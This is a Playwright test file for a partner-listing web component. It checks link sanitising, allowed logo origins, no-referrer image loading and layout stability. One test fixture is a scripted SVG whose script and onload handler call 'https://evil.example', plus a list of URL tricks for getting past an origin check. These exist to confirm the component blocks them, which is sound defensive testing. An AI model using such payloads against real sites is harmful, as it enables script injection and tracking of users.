import type { Page } from "@playwright/test";

import { listing, LISTING, partner } from "../support/listing";
import { ADDRESSES } from "../support/payloads";
import { expect, test } from "../support/test";
import { Trap } from "../support/trap";

// Where a partner's data may lead a person, and whose pictures it may show.

test("what is no plain https, mail or telephone address is no link; what is, opens without a way back", async (
  { app, context, page, sandbox },
) => {
  const trap = await Trap.set(context, sandbox.address);
  const bad = ADDRESSES.map((address, index) =>
    partner(`bad-${index}`, { name: `Bad ${index}`, website_url: address, video_url: address, book_meeting: address, email: address, phone: address }),
  );
  const good = partner("good", {
    name: "Good Grill",
    website_url: "https://www.till.example/a?b=c#d",
    video_url: "HTTPS://videos.example:8443/x",
    book_meeting: "https://xn--mnchen-3ya.example/",
    email: "hi+till@till.example",
    phone: "+41 (0)22 555-01.23",
  });
  await sandbox.fail({ path: LISTING, times: 1, status: 200, body: listing([good, ...bad]) });
  await app.open("/partners/good");
  await expect(app.heading("Good Grill")).toBeVisible();
  const links = () =>
    page.getByRole("region", { name: "About" }).getByRole("link").evaluateAll((links) =>
      links.map((link) => [link.getAttribute("href"), link.getAttribute("rel"), link.getAttribute("target")]),
    );
  expect(await links()).toEqual([
    ["https://www.till.example/a?b=c#d", "noopener noreferrer", "_blank"],
    ["mailto:hi+till@till.example", "noopener noreferrer", null],
    ["tel:+410225550123", "noopener noreferrer", null],
    ["https://xn--mnchen-3ya.example/", "noopener noreferrer", "_blank"],
    ["HTTPS://videos.example:8443/x", "noopener noreferrer", "_blank"],
  ]);

  const found = await page.evaluate(async (count) => {
    const element = document.querySelector("partner-integrations") as HTMLElement & { navigate(path: string): void };
    const found: string[] = [];
    for (let index = 0; index < count; index++) {
      element.navigate(`/partners/bad-${index}`);
      const name = () => [...element.shadowRoot!.querySelectorAll("h2")].map(({ textContent }) => textContent);
      for (let tries = 0; tries < 100 && !name().includes(`Bad ${index}`); tries++) await new Promise((done) => setTimeout(done));
      const outward = element.shadowRoot!.querySelectorAll(".about a");
      found.push(...[...outward].map((link) => `${index}: ${link.getAttribute("href")}`));
    }
    return found;
  }, ADDRESSES.length);
  expect(found).toEqual([]);
  await trap.expectNothing(page);
});

const PIXELS = 4000;
const HUGE = `<svg xmlns="http://www.w3.org/2000/svg" width="${PIXELS}" height="${PIXELS}"><rect width="100%" height="100%"/></svg>`;
const SCRIPTED = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.pwned()"><script>top.pwned(); fetch("https://evil.example/told")</script>
  <image href="https://evil.example/seen"/><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/framed"/></foreignObject></svg>`;

test.describe("without the policy, which would stop them as well", () => {
  test.use({ bypassCSP: true });

  test("logos come from the origins that the host allows, tell them nothing, and run nothing", async ({ app, context, page, sandbox }) => {
    const trap = await Trap.set(context, sandbox.address, "https://logos.example");
    const asked: { url: string; referrer: string | undefined }[] = [];
    // Made-up hosts have to be answered by somebody.
    await context.route(/\/\/[^/]*\.example[:/]/, async (route) => {
      asked.push({ url: route.request().url(), referrer: (await route.request().allHeaders()).referer });
      await route.fulfill({ contentType: "image/svg+xml", body: SCRIPTED });
    });
    const allowed = ["https://logos.example/a.svg", "HTTPS://LOGOS.example:443/b.svg"];
    const foreign = [
      "https://evil.example/a.svg",
      "https://logos.example.evil.example/a.svg",
      "https://logos.example@evil.example/a.svg",
      "https://logos.example:8443/a.svg",
      "http://logos.example/a.svg",
      "//evil.example/a.svg",
      "/\\evil.example/a.svg",
      `data:image/svg+xml,${SCRIPTED}`,
    ];
    const logos = ["/logos/orkestro.svg", ...allowed, ...foreign];
    const body = listing(logos.map((url, index) => partner(`p-${index}`, { name: `Partner ${index}`, logo: { url } })));
    await sandbox.fail({ path: LISTING, times: 2, status: 200, body });
    await app.open();
    await page.locator("partner-integrations").evaluate((element) => element.setAttribute("logo-origins", "https://logos.example"));
    await expect(app.rows).toHaveCount(logos.length);
    const pictures = app.list.locator("img");
    await expect(pictures).toHaveCount(3);
    await expect.poll(() => pictures.evaluateAll((all) => all.every((one) => (one as HTMLImageElement).complete))).toBe(true);
    const attributes = (names: string[]) => pictures.evaluateAll((all, names) => all.map((one) => names.map((name) => one.getAttribute(name))), names);
    expect(await attributes(["alt", "width", "height", "referrerpolicy"])).toEqual(Array(3).fill(["", "48", "48", "no-referrer"]));
    expect(asked.map(({ url }) => url).toSorted()).toEqual(["https://logos.example/a.svg", "https://logos.example/b.svg"]);
    expect(asked.map(({ referrer }) => referrer)).toEqual([undefined, undefined]);
    expect(trap.sprung).toEqual([]);
  });
});

test("a logo that is huge, late, missing or no picture moves nothing (row 32)", async ({ app, complaints, page, sandbox }) => {
  complaints.expect(/status of 404/);
  const logos = { huge: { status: 200, body: HUGE }, missing: { status: 404, body: "" }, scripted: { status: 200, body: SCRIPTED }, text: { status: 200, body: "<html>" } };
  for (const [name, answer] of Object.entries(logos)) {
    await sandbox.fail({ path: `/logos/x-${name}.svg`, delay_ms: 700, headers: { "content-type": "image/svg+xml" }, ...answer });
  }
  const body = listing(Object.keys(logos).map((name) => partner(name, { name, logo: { url: `/logos/x-${name}.svg` } })));
  await sandbox.fail({ path: LISTING, times: 1, status: 200, body });
  await app.open();
  await expect(app.rows).toHaveCount(4);
  const shifts = await watchShifts(page);
  const pictures = app.list.locator("img");
  const boxes = () => app.rows.evaluateAll((rows) => rows.map((row) => JSON.stringify(row.getBoundingClientRect())));
  const before = await boxes();
  // What is no picture gives way to the initials.
  await expect(pictures).toHaveCount(2);
  await expect.poll(() => pictures.evaluateAll((all) => all.map((one) => (one as HTMLImageElement).naturalWidth))).toEqual([PIXELS, 9]);
  expect(await boxes()).toEqual(before);
  expect(await shifts()).toEqual([]);

  // The instrument works.
  await page.evaluate(() => document.querySelector("main")!.prepend(Object.assign(document.createElement("p"), { textContent: "Something new" })));
  await expect.poll(shifts).not.toEqual([]);
});

/** The shifts of the layout from now on, as the browser counts them. */
async function watchShifts(page: Page): Promise<() => Promise<number[]>> {
  await page.evaluate(() => {
    const shifts: number[] = [];
    Object.assign(window, { shifts });
    new PerformanceObserver((list) => shifts.push(...list.getEntries().map((entry) => (entry as any).value))).observe({ type: "layout-shift" });
  });
  return () => page.evaluate(() => (window as unknown as { shifts: number[] }).shifts);
}
